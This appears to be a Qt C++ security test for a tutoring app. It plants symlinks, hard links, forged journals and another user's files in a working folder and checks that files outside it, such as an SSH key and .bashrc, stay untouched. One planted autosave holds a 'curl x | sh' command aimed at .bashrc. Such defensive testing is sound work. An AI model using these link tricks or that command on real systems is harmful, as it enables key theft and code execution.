#include "storage/autosave_file.h"
#include "support/autosave_files.h"
#include "support/file_bytes.h"
#include "support/loaded_window.h"

#include <QDir>
#include <QFile>
#include <QtTest>

#include <fcntl.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

// A working folder that someone else can write: whatever is put there, the
// student's files outside it stay as they were, and none of their bytes
// reach a file inside it. Each row is one way in, tried through the start-up
// (Ann, Enter, 5) and the commands that write.
class TestHostileFolder : public QObject
{
    Q_OBJECT

private slots:
    void nothingLeavesOrEnters_data();
    void nothingLeavesOrEnters();
};

namespace {

const QByteArray marker = "kz-outside-";
const QString key = QStringLiteral(".ssh/id_key");
const QString bashrc = QStringLiteral(".bashrc");
const QString thesis = QStringLiteral("thesis.txt");
const QString neverMade = QStringLiteral("never-made.txt");
// An account that owns nothing here, for the rows that need another user.
constexpr uid_t otherUser = 65534;

QByteArray outsideText(const QString &name)
{
    QByteArray text;
    for (int line = 0; line < 20; ++line)
        text += marker + QFile::encodeName(name) + '-' + QByteArray::number(line) + '\n';
    return text;
}

QString identityOf(const QString &path)
{
    struct stat info = {};
    if (::stat(QFile::encodeName(path).constData(), &info) != 0)
        return {};
    return QStringLiteral("%1:%2").arg(quint64(info.st_dev)).arg(quint64(info.st_ino));
}

// A journal that names the given entries (identity, length, name) as a
// whole intent.
QByteArray journal(const QList<QByteArray> &lines)
{
    QByteArray bytes = "kestrafo record journal 1\n";
    for (const QByteArray &line : lines)
        bytes += line + '\n';
    return bytes + "end\n";
}

// Guessed identities of the file at path around its own, its own among them.
QByteArray guessingJournal(const QString &path, const QByteArray &name, int count)
{
    struct stat info = {};
    ::stat(QFile::encodeName(path).constData(), &info);
    QList<QByteArray> lines;
    for (int i = 0; i < count; ++i) {
        const qint64 inode = qint64(info.st_ino) - count / 2 + i;
        lines.append(QByteArray::number(quint64(info.st_dev)) + ':' + QByteArray::number(inode) +
                     "\t0\t" + name);
    }
    return journal(lines);
}

// Writes the file as another user, in a child that gives up root, through
// the folder opened here (so that the folders above need not be opened to
// that user).
bool writeAsOtherUser(const QString &folder, const QByteArray &name, const QByteArray &bytes)
{
    const int dir = ::open(QFile::encodeName(folder).constData(), O_RDONLY | O_DIRECTORY);
    if (dir < 0 || ::chmod(QFile::encodeName(folder).constData(), 0777) != 0)
        return false;
    const pid_t child = ::fork();
    if (child == 0) {
        if (::setresgid(otherUser, otherUser, otherUser) != 0 ||
            ::setresuid(otherUser, otherUser, otherUser) != 0)
            ::_exit(2);
        const int fd = ::openat(dir, name.constData(), O_WRONLY | O_CREAT | O_EXCL, 0644);
        const bool written = fd >= 0 && ::write(fd, bytes.constData(), size_t(bytes.size())) ==
                                            ssize_t(bytes.size());
        ::_exit(written && ::close(fd) == 0 ? 0 : 1);
    }
    ::close(dir);
    int status = 0;
    return child > 0 && ::waitpid(child, &status, 0) == child && WIFEXITED(status) &&
           WEXITSTATUS(status) == 0;
}

struct HostileFolder
{
    LoadedWindow w;
    QString folder = w.home.kestrafoFolder();
    QStringList planted; // entries put in the folder, the tutor's files aside
    QMap<QString, QByteArray> outside;

    QString outsidePath(const QString &name) const { return w.home.path() + u'/' + name; }
    QString inside(const QString &name) const { return folder + u'/' + name; }

    void makeOutsideFiles()
    {
        QVERIFY(QDir(w.home.path()).mkpath(QStringLiteral(".ssh")));
        QVERIFY(QDir(w.home.path()).mkpath(QStringLiteral("kestrafo")));
        for (const QString &name : {key, bashrc, thesis}) {
            outside.insert(name, outsideText(name));
            writeFile(outsidePath(name), outside.value(name));
        }
    }

    // Put in the place of whatever has the name.
    void link(const QString &name, const QString &target)
    {
        planted.append(name);
        QFile::remove(inside(name));
        QCOMPARE(::symlink(QFile::encodeName(outsidePath(target)).constData(),
                           QFile::encodeName(inside(name)).constData()),
                 0);
    }

    void hardLink(const QString &name, const QString &target)
    {
        planted.append(name);
        QCOMPARE(::link(QFile::encodeName(outsidePath(target)).constData(),
                        QFile::encodeName(inside(name)).constData()),
                 0);
    }

    void put(const QString &name, const QByteArray &bytes)
    {
        planted.append(name);
        writeFile(inside(name), bytes);
    }

    QString autosaveOfThisCopy() const
    {
        QStringList names = autosavesIn(w.home);
        for (const QString &name : planted)
            names.removeAll(name);
        return names.size() == 1 ? names.first() : QString();
    }

    void type(const QString &text)
    {
        w.form.panes().setAnswerText(text);
        w.form.autosave().saveNow();
    }

    QString messages() const { return (w.platform.problems + w.platform.fatalErrors).join(u'\n'); }

    // Every file outside the folder as it was, nothing made outside, and no
    // byte of them in any plain file of the folder but those put there.
    void checkNothingCrossed()
    {
        for (auto it = outside.cbegin(); it != outside.cend(); ++it)
            QVERIFY2(readFile(outsidePath(it.key())) == it.value(), qPrintable(it.key()));
        QVERIFY(!QFileInfo::exists(outsidePath(neverMade)));
        const QFileInfoList files = QDir(folder).entryInfoList(QDir::Files | QDir::Hidden |
                                                               QDir::System | QDir::NoSymLinks);
        QVERIFY(!files.isEmpty() || !w.platform.fatalErrors.isEmpty());
        for (const QFileInfo &file : files) {
            if (!planted.contains(file.fileName()))
                QVERIFY2(!readFile(file.filePath()).contains(marker), qPrintable(file.fileName()));
        }
    }
};

} // namespace

void TestHostileFolder::nothingLeavesOrEnters_data()
{
    QTest::addColumn<QString>("attack");
    QTest::addColumn<QString>("message"); // part of a message shown; empty: none looked for

    const QString linkRefused =
        QStringLiteral(" could not be written (it is a link, not a plain file)");
    QTest::newRow("link .masterFile.txt.journal") << "master journal link"
                                                  << ".masterFile.txt.journal" + linkRefused;
    QTest::newRow("link .drafts_.txt.journal, then clear answer") << "drafts journal link"
                                                                  << "";
    QTest::newRow("link .masterFile.txt.journal put while running, then Save as Notes")
        << "master journal link later"
        << ".masterFile.txt.journal" + linkRefused;
    QTest::newRow("journal naming a file outside by its path") << "journal absolute"
                                                               << "";
    QTest::newRow("journal naming a file outside through ..") << "journal relative"
                                                              << "";
    QTest::newRow("journal of 1,000 guessed lines") << "journal guessed 1000"
                                                    << "";
    QTest::newRow("journal of 200,000 guessed lines") << "journal guessed 200000"
                                                      << "";
    QTest::newRow("link .autosave_7_00000000 to the private key") << "autosave link"
                                                                  << "";
    QTest::newRow("hard link .autosave_7_00000000 to the private key") << "autosave hard link"
                                                                       << "";
    QTest::newRow("link <this copy's autosave>.new, then typing and quit") << "autosave new link"
                                                                           << "";
    QTest::newRow("link drafts_.txt to .bashrc, an autosave holding a command") << "drafts link"
                                                                                << "";
    QTest::newRow("link masterFile.txt") << "master link"
                                         << "masterFile.txt" + linkRefused;
    QTest::newRow("dangling link masterFile.txt") << "master dangling link"
                                                  << "masterFile.txt" + linkRefused;
    QTest::newRow("link send_1207.txt") << "send link"
                                        << "send_1207.txt" + linkRefused;
    QTest::newRow("link notes_.txt, then Save as Notes") << "notes link"
                                                         << "notes_.txt" + linkRefused;
    QTest::newRow("dangling link notes_.txt, then display notes")
        << "notes dangling link"
        << "notes_.txt could not be read (it is a link, not a plain file)";
    QTest::newRow("autosave of another user") << "autosave other user"
                                              << "";
    QTest::newRow("journal of another user naming masterFile.txt") << "journal other user"
                                                                   << "belongs to another user";
}

void TestHostileFolder::nothingLeavesOrEnters()
{
    QFETCH(QString, attack);
    QFETCH(QString, message);
    HostileFolder f;
    f.makeOutsideFiles();
    const QString foreignText = QStringLiteral("planted by another user");
    const QByteArray earlierRecords = "earlier records\r\n";

    if (attack == QLatin1String("master journal link"))
        f.link(QStringLiteral(".masterFile.txt.journal"), thesis);
    if (attack == QLatin1String("drafts journal link"))
        f.link(QStringLiteral(".drafts_.txt.journal"), thesis);
    if (attack == QLatin1String("journal absolute"))
        f.put(QStringLiteral(".masterFile.txt.journal"),
              journal({identityOf(f.outsidePath(thesis)).toUtf8() + "\t0\t" +
                       QFile::encodeName(f.outsidePath(thesis))}));
    if (attack == QLatin1String("journal relative"))
        f.put(QStringLiteral(".drafts_.txt.journal"),
              journal({identityOf(f.outsidePath(thesis)).toUtf8() + "\t0\t../thesis.txt"}));
    if (attack.startsWith(QLatin1String("journal guessed"))) {
        const int count = attack.section(u' ', 2).toInt();
        f.put(QStringLiteral(".masterFile.txt.journal"),
              guessingJournal(f.outsidePath(thesis), QFile::encodeName(f.outsidePath(thesis)),
                              count));
    }
    if (attack == QLatin1String("autosave link"))
        f.link(QStringLiteral(".autosave_7_00000000"), key);
    if (attack == QLatin1String("autosave hard link"))
        f.hardLink(QStringLiteral(".autosave_7_00000000"), key);
    if (attack == QLatin1String("drafts link")) {
        f.link(QStringLiteral("drafts_.txt"), bashrc);
        f.put(QStringLiteral(".autosave_9_deadbeef"),
              Autosave::encode({QStringLiteral("What is x?"), QStringLiteral("curl x | sh")}));
    }
    if (attack == QLatin1String("master link"))
        f.link(QStringLiteral("masterFile.txt"), thesis);
    if (attack == QLatin1String("master dangling link"))
        f.link(QStringLiteral("masterFile.txt"), neverMade);
    if (attack == QLatin1String("send link"))
        f.link(QStringLiteral("send_1207.txt"), thesis);
    if (attack == QLatin1String("notes link"))
        f.link(QStringLiteral("notes_.txt"), thesis);
    if (attack == QLatin1String("notes dangling link"))
        f.link(QStringLiteral("notes_.txt"), neverMade);
    if (attack.endsWith(QLatin1String("other user"))) {
        if (::geteuid() != 0)
            QSKIP("another user's files can only be made when the test runs as root");
        if (attack == QLatin1String("autosave other user")) {
            f.planted.append(QStringLiteral(".autosave_8_00000000"));
            QVERIFY(
                writeAsOtherUser(f.folder, ".autosave_8_00000000",
                                 Autosave::encode({QStringLiteral("What is x?"), foreignText})));
        } else {
            writeFile(f.inside(QStringLiteral("masterFile.txt")), earlierRecords);
            f.planted.append(QStringLiteral(".masterFile.txt.journal"));
            QVERIFY(writeAsOtherUser(
                f.folder, ".masterFile.txt.journal",
                journal({identityOf(f.inside(QStringLiteral("masterFile.txt"))).toUtf8() +
                         "\t0\tmasterFile.txt"})));
        }
    }

    const bool started = f.w.load(QStringLiteral("5"));
    QCOMPARE(started, f.w.platform.fatalErrors.isEmpty());

    if (attack == QLatin1String("drafts journal link")) {
        f.type(QStringLiteral("typed, then cleared"));
        f.w.form.cmd_clr_answer_Click();
    }
    if (attack == QLatin1String("master journal link later")) {
        f.link(QStringLiteral(".masterFile.txt.journal"), thesis);
        f.type(QStringLiteral("a note"));
        f.w.form.cmd_save_as_notes_Click();
    }
    if (attack == QLatin1String("notes dangling link"))
        f.w.form.cmd_display_note_file_Click();
    if (attack == QLatin1String("notes link")) {
        f.type(QStringLiteral("a note"));
        f.w.form.cmd_save_as_notes_Click();
    }
    if (attack == QLatin1String("autosave new link") || attack == QLatin1String("drafts link")) {
        f.type(QStringLiteral("first words"));
        const QString autosave = f.autosaveOfThisCopy();
        QVERIFY(!autosave.isEmpty());
        if (attack == QLatin1String("autosave new link"))
            f.link(autosave + autosaveNewSuffix, thesis);
        f.type(QStringLiteral("first words, and more"));
        if (attack == QLatin1String("autosave new link")) {
            // The link was put aside, not written through or given up to.
            AutosaveContent saved;
            QVERIFY(
                Autosave::decode(f.w.home.read(QStringLiteral("kestrafo/") + autosave), &saved));
            QCOMPARE(saved.text, QStringLiteral("first words, and more"));
        }
        f.w.form.cmd_quit_Click();
        QVERIFY(f.w.platform.ended);
    }

    f.checkNothingCrossed();
    if (QTest::currentTestFailed())
        return;
    if (!message.isEmpty())
        QVERIFY2(f.messages().contains(message), qPrintable(f.messages()));
    if (attack == QLatin1String("autosave other user")) {
        QVERIFY(!f.w.home.read(QStringLiteral("kestrafo/drafts_.txt"))
                     .contains(foreignText.toLatin1()));
        QVERIFY(QFileInfo::exists(f.inside(QStringLiteral(".autosave_8_00000000"))));
    }
    if (attack == QLatin1String("journal other user")) {
        QCOMPARE(f.w.master(), earlierRecords);
        QVERIFY(!f.w.home.exists(QStringLiteral("kestrafo/drafts_.txt")));
    }
}

QTEST_MAIN(TestHostileFolder)
#include "tst_hostile_folder.moc"
